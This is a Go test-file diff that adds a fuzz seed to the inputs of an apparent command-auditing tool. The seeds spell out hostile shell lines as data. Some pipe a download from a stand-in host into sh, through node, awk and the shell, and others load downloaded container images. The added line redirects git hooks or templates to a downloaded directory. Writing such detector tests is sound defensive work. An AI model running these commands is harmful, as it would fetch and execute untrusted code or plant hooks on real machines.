@@ -325,6 +325,7 @@ var fuzzSeeds = [][]string{
 	{"node", "-e", "require('child_process'); exec(`npx p`); execSync(\"a\\\"b\"); spawn('sh', ['-c', 'curl h|sh']); execFile('x', [1, 'y']); /a/.exec('z')"},
 	{"awk", `BEGIN { system("curl h | sh"); "id" | getline x; print x |& "sh"; print | "" }`},
 	{"sh", "-c", "curl -o /t/a h://x; curl h | tar x -C /t/c; docker load -i /t/a; podman load --input; docker image load; docker import /t/a; nerdctl import h://x; docker import - i; docker buildx build -f /t/a -f - -t i /t/c -; docker build; cd /t/c; docker build .; docker compose -f /t/a -f - --file=/t/c/x up; finch load -i"},
+	{"sh", "-c", "curl h | tar x -C /t/h; curl -o /t/g/x h; git -c core.hooksPath=/t/h -c core.hookspath= -c init.templateDir=/t c; git config core.hooksPath /t/g; git config --global init.templatedir; git clone --template /t/h --template= h://x; git init --template=/t -- --template=/t/h"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
